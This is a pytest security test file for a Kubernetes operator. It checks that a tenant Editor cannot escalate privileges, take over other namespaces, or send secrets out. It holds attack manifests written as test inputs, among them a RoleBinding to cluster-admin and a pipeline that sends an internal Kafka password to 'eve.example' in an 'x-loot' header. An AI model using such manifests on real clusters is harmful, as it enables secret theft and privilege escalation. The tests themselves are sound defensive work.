"""
Attacks of whoever may edit an Affiliate or a Pipeline (A25, A26): nothing comes of them outside the
plan.
"""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from control_plane import ControlPlane
from kafka_broker import Cluster
from operating import Operating, blocked, operating, ready, wait_for
from tenants import affiliate, pipeline

pytestmark = [pytest.mark.needs("cluster"), pytest.mark.needs("kafka"), pytest.mark.timeout(240)]

EVE = {"kind": "User", "name": "eve", "apiGroup": "rbac.authorization.k8s.io"}
MAY = {
    ("pipelines.trackmate.io", "create delete get list patch update watch"),
    ("pipelines.trackmate.io/scale", "create delete patch update"),
    ("secrets", "create"),
    *((one, "get list watch") for one in ("pods", "pods/log", "services", "configmaps")),
    *((one, "get list watch") for one in ("events", "resourcequotas")),
    *((one, "get list watch") for one in ("deployments.apps", "replicasets.apps")),
}


@pytest.fixture(scope="module")
def operator(plane: ControlPlane, kafka: Cluster, home: Path) -> Iterator[Operating]:
    with operating(home, plane, kafka) as running:
        yield running


@pytest.fixture(scope="module")
def eve(plane: ControlPlane, operator: Operating) -> Path:
    """An Editor of the affiliate `hers`; of `theirs` she is nobody."""
    plane.apply(affiliate("hers", access=[{"role": "Editor", "subjects": [EVE]}]))
    plane.apply(affiliate("theirs"))
    ready(plane, "hers")
    ready(plane, "theirs")
    return plane.user("eve")


def made(kind: str, name: str, **more: Any) -> str:
    metadata = {"name": name, "namespace": "trackmate-hers", **more.pop("metadata", {})}
    return yaml.safe_dump({"kind": kind, "metadata": metadata, **more})


def may(plane: ControlPlane, who: Path, namespace: str) -> set[tuple[str, str]]:
    """Each resource with its verbs, as kubectl lists them."""
    listed = plane.kubectl("auth", "can-i", "--list", "-n", namespace, as_=who)
    rows = [line.rsplit("[", 1) for line in listed.splitlines()[1:] if line]
    return {(row[0].split()[0], " ".join(sorted(row[1].strip("] ").split()))) for row in rows}


def test_an_editor_may_do_this_and_no_more(plane: ControlPlane, eve: Path) -> None:
    everybody = may(plane, eve, "default")
    assert may(plane, eve, "trackmate-hers") - everybody == MAY
    assert may(plane, eve, "trackmate-theirs") == everybody


@pytest.mark.parametrize(
    "manifest",
    [
        made("Pod", "mine", apiVersion="v1", spec={"containers": [{"name": "c", "image": "i"}]}),
        made("ServiceAccount", "mine", apiVersion="v1"),
        made("NetworkPolicy", "open", apiVersion="networking.k8s.io/v1", spec={"podSelector": {}}),
        made(
            "Role",
            "mine",
            apiVersion="rbac.authorization.k8s.io/v1",
            rules=[{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]}],
        ),
        made(
            "RoleBinding",
            "mine",
            apiVersion="rbac.authorization.k8s.io/v1",
            roleRef={"apiGroup": EVE["apiGroup"], "kind": "ClusterRole", "name": "cluster-admin"},
            subjects=[EVE],
        ),
        yaml.safe_dump(affiliate("hers-too", access=[{"role": "Editor", "subjects": [EVE]}])),
    ],
    ids=lambda text: yaml.safe_load(text)["kind"],
)
def test_an_editor_makes_nothing_else(plane: ControlPlane, eve: Path, manifest: str) -> None:
    said = plane.refused("create", "-f", "-", input=manifest, as_=eve)
    assert "forbidden" in said.lower()


def test_a_pipeline_that_asks_for_more_than_a_pipeline_is_refused(
    plane: ControlPlane, eve: Path
) -> None:
    asked = pipeline("more", "trackmate-hers", image="evil", serviceAccountName="default")
    said = plane.refused("create", "-f", "-", input=yaml.safe_dump(asked), as_=eve)
    assert 'unknown field "spec.image"' in said
    assert 'unknown field "spec.serviceAccountName"' in said


def test_a_pipeline_cannot_send_out_a_secret_that_its_editor_may_not_read(
    plane: ControlPlane, operator: Operating, eve: Path
) -> None:
    ref = {"secretKeyRef": {"name": "trackmate-ingest-kafka", "key": "password"}}
    http = {"url": "https://eve.example", "headers": [{"name": "x-loot", "valueFrom": ref}]}
    asked = pipeline("loot", "trackmate-hers", sink={"http": http})
    plane.kubectl("create", "-f", "-", input=json.dumps(asked), as_=eve)
    refused = wait_for(
        lambda: plane.read("pipeline", "loot", "-n", "trackmate-hers"),
        status="False",
        reason="Invalid",
    )
    [ready_] = [one for one in refused["status"]["conditions"] if one["type"] == "Ready"]
    assert "'trackmate-ingest-kafka' is Trackmate's own" in ready_["message"]
    settings = plane.read("configmaps", "-n", "trackmate-hers")["items"]
    assert "trackmate-pipeline-loot" not in {one["metadata"]["name"] for one in settings}


@pytest.mark.parametrize("namespace", ["kube-system", "trackmate-theirs", "trackmate-system"])
def test_an_affiliate_cannot_take_a_namespace_that_is_not_its_own(
    plane: ControlPlane, operator: Operating, eve: Path, namespace: str
) -> None:
    before = snapshot(plane, namespace)
    name = f"grabs-{namespace}"
    plane.apply(affiliate(name, namespace=namespace))
    blocked(plane, name, "NamespaceConflict")
    assert snapshot(plane, namespace) == before


def snapshot(plane: ControlPlane, namespace: str) -> set[tuple[str, str, str]]:
    kinds = "secrets,configmaps,roles,rolebindings,networkpolicies,resourcequotas,limitranges"
    found = [plane.read("namespace", namespace), *plane.read(kinds, "-n", namespace)["items"]]
    return {
        (one["kind"], one["metadata"]["name"], one["metadata"]["resourceVersion"])
        for one in found
        if one["metadata"]["name"] != "kube-root-ca.crt"
    }
